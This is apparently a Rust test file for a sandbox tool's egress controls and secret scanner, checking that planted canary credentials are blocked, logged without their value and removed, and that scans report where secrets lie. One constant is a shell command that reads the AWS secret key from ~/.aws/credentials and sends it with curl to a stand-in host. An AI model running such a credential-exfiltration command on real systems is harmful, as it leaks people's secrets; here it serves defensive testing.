//! Threats 18 and 21, as users meet them: canaries in a real bottle, and the scanner offline.
use crate::stage::{Ran, Stage, as_every_user};
use std::io::Write;
use std::process::Stdio;

const SECRET: &str = "own-secret-4711-abcdefghijkl";

/// Sends what a file says to the only host that may be reached, which is asked for in vain: nobody is there.
const SEND: &str = "value=$(sed -n 's/aws_secret_access_key = //p' ~/.aws/credentials); printf '%s' \"$value\"; \
                    curl -s -o /dev/null -w ' %{http_code}' -H \"X-Key: $value\" http://egress-test.invalid/";

#[test]
fn canaries_are_inside_never_leave_and_are_gone_afterwards() {
    as_every_user(|stage| {
        stage.manifest(
            "egress:\n  routes: [{ host: egress-test.invalid, scheme: http }]\n  dlp: { canaries: true, action: warn }\n",
        );
        let ran = stage.run(&["run", "--", "sh", "-c", SEND]).ended_with(0);
        let (value, status) = ran.out.rsplit_once(' ').expect("two words");
        assert_eq!((value.len(), status), (40, "403"), "{ran:?}");
        assert!(ran.err.contains("canaries in ~/.aws/credentials, ~/.env, ~/.netrc"), "{}", ran.err);
        assert!(ran.err.contains("1 finding"), "{}", ran.err);
        let logs = stage.run(&["logs", "dev"]).ended_with(0).out;
        assert!(logs.contains("canary of ~/.aws/credentials in header x-key (block"), "{logs}");
        assert!(!logs.contains(value), "{logs}");
        let home = stage.path("state").join("bottle/dev/home");
        for file in [".aws", ".env", ".netrc"] {
            assert!(!home.join(file).exists(), "{file} is left");
        }
        let again =
            stage.run(&["run", "--quiet", "--", "sh", "-c", "cat ~/.aws/credentials ~/.env ~/.netrc"]);
        let again = again.ended_with(0).out;
        assert!(
            again.contains("aws_secret_access_key") && !again.contains(value),
            "new in every run: {again}"
        );
    });
}

fn scan(stage: &Stage, arguments: &[&str], input: &str) -> Ran {
    let mut command = stage.bottle(&[&["scan"], arguments].concat());
    command.env("OWN", SECRET).stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut child = command.spawn().expect("bottle starts");
    let mut pipe = child.stdin.take().expect("piped");
    // Who reads no input closes it.
    let _closed = pipe.write_all(input.as_bytes());
    drop(pipe);
    Ran::of(child.wait_with_output().expect("it ends"))
}

#[test]
fn a_scan_says_where_and_never_what() {
    let stage = Stage::ordinary();
    stage.manifest("egress: { dlp: { secrets: [{ env: OWN }] } }\n");
    stage.write("clean.txt", "nothing here\n");
    stage.write("notes.txt", &format!("one\nthe key is {SECRET}\n"));
    stage.write(
        "coded.txt",
        &format!("x = \"{}\"\n", SECRET.bytes().map(|b| format!("{b:02x}")).collect::<String>()),
    );
    scan(&stage, &["clean.txt"], "").ended_with(0);
    let ran = scan(&stage, &["clean.txt", "notes.txt", "coded.txt", "-"], SECRET).ended_with(1);
    for wanted in
        ["notes.txt:2:12  known-secret", "coded.txt:1:", "-:1:1  known-secret", "3 findings in 4 sources"]
    {
        assert!(ran.out.contains(wanted), "no {wanted:?} in {}", ran.out);
    }
    assert!(!ran.out.contains(SECRET) && !ran.err.contains(SECRET));
    let json = scan(&stage, &["--json", "notes.txt"], "").ended_with(1).out;
    let json: serde_json::Value = serde_json::from_str(&json).expect("JSON");
    assert_eq!((&json["clean"], &json["findings"][0]["line"]), (&false.into(), &2.into()));
    let fingerprint = json["findings"][0]["fingerprint"].as_str().expect("a fingerprint").to_owned();
    stage.manifest(&format!(
        "egress:\n  dlp:\n    secrets: [{{ env: OWN }}]\n    allow: [{{ rule: known-secret, fingerprint: \"{fingerprint}\", reason: a test }}]\n"
    ));
    let ran = scan(&stage, &["notes.txt"], "").ended_with(0);
    assert!(ran.out.contains("allowed") && ran.out.contains("nothing found"), "{}", ran.out);
}

#[test]
fn what_cannot_be_looked_at_is_no_clean_scan() {
    let stage = Stage::ordinary();
    let ran = scan(&stage, &["missing.txt"], "").ended_with(2);
    assert!(ran.err.contains("cannot read `missing.txt`"), "{}", ran.err);
    assert!(scan(&stage, &["."], "").ended_with(2).err.contains("it is a folder"));
    stage.write("x.har", "{}");
    assert!(scan(&stage, &["--har", "x.har"], "").ended_with(2).err.contains("is no HAR"));
    stage.manifest("egress: { dlp: { actoin: warn } }\n");
    assert!(scan(&stage, &["-"], "").ended_with(2).err.contains("did you mean `action`?"));
}

#[test]
fn the_rules_are_listed_with_what_they_find() {
    let stage = Stage::ordinary();
    let ran = scan(&stage, &["--rules"], "").ended_with(0);
    assert!(
        ran.out.contains("gitlab-personal-token  ") && ran.out.contains("GitLab personal"),
        "{}",
        ran.out
    );
}
